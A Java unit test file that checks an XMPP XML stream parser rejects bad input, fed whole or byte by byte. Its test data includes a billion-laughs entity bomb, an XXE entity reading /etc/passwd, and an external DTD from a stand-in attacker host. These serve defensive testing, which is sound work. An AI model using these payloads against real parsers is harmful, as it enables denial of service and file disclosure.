package org.parley.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.parley.xml.Recorder.utf8;
import static org.parley.xml.XmlStreamParserTest.HEADER;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Bad input of every kind ends the stream with the RFC 6120 condition, fed whole or byte by byte. */
class XmlStreamParserRejectionTest {

    static final int MAX = 1_000;

    /** Feeds whole and byte by byte; both must fail with the same condition; returns what was delivered first. */
    static List<Recorder.Event> assertRejected(String doc, StreamErrorCondition condition) {
        Recorder whole = new Recorder();
        XmlStreamException e1 = catchThrowableOfType(XmlStreamException.class, () -> {
            byte[] b = utf8(doc);
            new XmlStreamParser(MAX).feed(b, 0, b.length, whole);
        });
        assertThat(e1).as("whole: %s", doc).isNotNull();
        assertThat(e1.condition()).as("whole: %s (%s)", doc, e1.getMessage()).isEqualTo(condition);
        Recorder split = new Recorder();
        XmlStreamException e2 = catchThrowableOfType(XmlStreamException.class, () -> {
            byte[] b = utf8(doc);
            XmlStreamParser p = new XmlStreamParser(MAX);
            for (int i = 0; i < b.length; i++) {
                p.feed(b, i, 1, split);
            }
        });
        assertThat(e2).as("byte by byte: %s", doc).isNotNull();
        assertThat(e2.condition()).as("byte by byte: %s (%s)", doc, e2.getMessage()).isEqualTo(condition);
        return whole.events;
    }

    static String laughs() {
        StringBuilder sb = new StringBuilder("<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>");
        for (int i = 1; i < 10; i++) {
            sb.append("<!ENTITY lol").append(i).append(" '");
            for (int j = 0; j < 10; j++) {
                sb.append("&lol").append(i == 1 ? "" : String.valueOf(i - 1)).append(';');
            }
            sb.append("'>");
        }
        return sb.append("]><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>")
                .append("<message><body>&lol9;</body></message>").toString();
    }

    @Test
    void billionLaughsIsRefusedBeforeAnythingExpands() {
        List<Recorder.Event> delivered = assertRejected(laughs(), StreamErrorCondition.RESTRICTED_XML);
        assertThat(delivered).isEmpty();
    }

    @Test
    void externalEntityIsRefused() {
        assertRejected("<?xml version='1.0'?><!DOCTYPE foo [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>"
                + "<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>"
                + "<message><body>&xxe;</body></message>", StreamErrorCondition.RESTRICTED_XML);
        assertRejected("<!DOCTYPE stream SYSTEM 'http://attacker.example/x.dtd'><stream:stream"
                + " xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>", StreamErrorCondition.RESTRICTED_XML);
    }

    @Test
    void undeclaredEntityReferencesAreNeverExpanded() {
        List<Recorder.Event> delivered = assertRejected(HEADER + "<message><body>a &xxe; b</body></message>",
                StreamErrorCondition.RESTRICTED_XML);
        assertThat(delivered).hasSize(1); // only the header: the message never got through
        // In an attribute value Aalto reports it as a syntax error; either way nothing expands.
        assertRejected(HEADER + "<message to='&xxe;'/>", StreamErrorCondition.NOT_WELL_FORMED);
    }

    @Test
    void commentsAndProcessingInstructionsAreRestricted() {
        assertRejected("<!-- hi --><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>",
                StreamErrorCondition.RESTRICTED_XML);
        assertRejected(HEADER + "<!-- hi -->", StreamErrorCondition.RESTRICTED_XML);
        assertRejected(HEADER + "<message><!-- hi --></message>", StreamErrorCondition.RESTRICTED_XML);
        assertRejected(HEADER + "<?evil x?>", StreamErrorCondition.RESTRICTED_XML);
        assertRejected("<?xml version='1.0'?><?evil x?><stream:stream xmlns='jabber:client'"
                + " xmlns:stream='http://etherx.jabber.org/streams'>", StreamErrorCondition.RESTRICTED_XML);
    }

    @Test
    void oversizedElementIsCaughtWhileStillArriving() throws Exception {
        XmlStreamParser p = new XmlStreamParser(MAX);
        Recorder r = new Recorder();
        byte[] head = utf8(HEADER + "<message><body>");
        p.feed(head, 0, head.length, r);
        byte[] chunk = utf8("x".repeat(100));
        int[] fedChunks = {0};
        XmlStreamException e = catchThrowableOfType(XmlStreamException.class, () -> {
            for (int i = 0; i < 100; i++) { // 10 KB, never closed: must fail as soon as it passes 1 KB
                fedChunks[0]++;
                p.feed(chunk, 0, chunk.length, r);
            }
        });
        assertThat(e.condition()).isEqualTo(StreamErrorCondition.POLICY_VIOLATION);
        assertThat(fedChunks[0]).isEqualTo(10);
        assertThat(r.elements()).isEmpty();
    }

    @Test
    void oversizedElementInOneChunkAndHugeStartTagsAreRefused() {
        assertRejected(HEADER + "<message><body>" + "x".repeat(MAX) + "</body></message>", StreamErrorCondition.POLICY_VIOLATION);
        assertRejected(HEADER + "<message id='" + "x".repeat(2 * MAX), StreamErrorCondition.POLICY_VIOLATION);
        assertRejected("<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='"
                + "x".repeat(2 * MAX), StreamErrorCondition.POLICY_VIOLATION);
    }

    @Test
    void elementsJustUnderTheLimitPassOneAfterAnother() throws Exception {
        String body = "x".repeat(MAX - 40);
        String stanza = "<message><body>" + body + "</body></message>";
        assertThat(stanza.length()).isLessThan(MAX);
        List<Recorder.Event> events = XmlStreamParserTest.parse(HEADER + (stanza + "  ").repeat(20));
        assertThat(events).hasSize(21);
    }

    @Test
    void tooDeepOrTooManyAttributesIsAPolicyViolation() {
        int depth = XmlStreamParser.MAX_DEPTH + 1;
        assertRejected(HEADER + "<a>".repeat(depth), StreamErrorCondition.POLICY_VIOLATION);
        StringBuilder attrs = new StringBuilder("<message");
        for (int i = 0; i <= XmlStreamParser.MAX_ATTRIBUTES; i++) {
            attrs.append(" a").append(i).append("=''");
        }
        assertRejected(HEADER + attrs + "/>", StreamErrorCondition.POLICY_VIOLATION);
    }

    @ParameterizedTest
    @ValueSource(strings = {"<message><body>x</message>", "<message a='1' a='2'/>", "<message><body>&#0;</body></message>",
        "<x:message/>", "<message>&amp</message>", "</stream:stream><more/>", "<message\u0001/>"})
    void malformedXmlIsNotWellFormed(String tail) {
        assertRejected(HEADER + tail, StreamErrorCondition.NOT_WELL_FORMED);
    }

    @Test
    void invalidUtf8IsNotWellFormed() {
        XmlStreamException e = catchThrowableOfType(XmlStreamException.class, () -> {
            byte[] head = utf8(HEADER + "<message><body>");
            XmlStreamParser p = new XmlStreamParser(MAX);
            p.feed(head, 0, head.length, new Recorder());
            byte[] bad = {(byte) 0xC3, (byte) 0x28, '<', '/', 'b'};
            p.feed(bad, 0, bad.length, new Recorder());
        });
        assertThat(e.condition()).isEqualTo(StreamErrorCondition.NOT_WELL_FORMED);
    }

    @Test
    void textBetweenStanzasIsNotWellFormed() {
        assertRejected(HEADER + "<presence/>hello<presence/>", StreamErrorCondition.NOT_WELL_FORMED);
    }

    @Test
    void wrongRootIsInvalidNamespace() {
        assertRejected("<stream:stream xmlns='jabber:client' xmlns:stream='urn:wrong'>", StreamErrorCondition.INVALID_NAMESPACE);
        assertRejected("<stream xmlns='jabber:client'>", StreamErrorCondition.INVALID_NAMESPACE);
        assertRejected("<html xmlns:stream='http://etherx.jabber.org/streams'>", StreamErrorCondition.INVALID_NAMESPACE);
    }

    @Test
    void onlyUtf8IsSupported() {
        assertRejected("<?xml version='1.0' encoding='ISO-8859-1'?><stream:stream xmlns='jabber:client'"
                + " xmlns:stream='http://etherx.jabber.org/streams'>", StreamErrorCondition.UNSUPPORTED_ENCODING);
    }

    @Test
    void aFailedParserKeepsFailingUntilReset() throws Exception {
        XmlStreamParser p = new XmlStreamParser(MAX);
        byte[] bad = utf8(HEADER + "<!-- x -->");
        catchThrowableOfType(XmlStreamException.class, () -> p.feed(bad, 0, bad.length, new Recorder()));
        byte[] more = utf8("<presence/>");
        XmlStreamException again = catchThrowableOfType(XmlStreamException.class,
                () -> p.feed(more, 0, more.length, new Recorder()));
        assertThat(again.condition()).isEqualTo(StreamErrorCondition.RESTRICTED_XML);
        p.reset();
        Recorder r = new Recorder();
        byte[] good = utf8(HEADER + "<presence/>");
        p.feed(good, 0, good.length, r);
        assertThat(r.elements()).hasSize(1);
    }

    @Test
    void nothingMayFollowTheStreamEndEvenAfterALargeElement() {
        String big = "<message><body>" + "z".repeat(XmlStreamParser.RENEW_AFTER_BYTES * 2) + "</body></message>";
        XmlStreamParser p = new XmlStreamParser(100_000);
        Recorder r = new Recorder();
        byte[] b = utf8(HEADER + big + "</stream:stream>");
        byte[] after = utf8("<presence/>");
        XmlStreamException e = catchThrowableOfType(XmlStreamException.class, () -> {
            p.feed(b, 0, b.length, r); // the large element and the end arrive together
            p.feed(after, 0, after.length, r);
        });
        assertThat(e.condition()).isEqualTo(StreamErrorCondition.NOT_WELL_FORMED);
        assertThat(r.events).hasSize(3);
    }
}
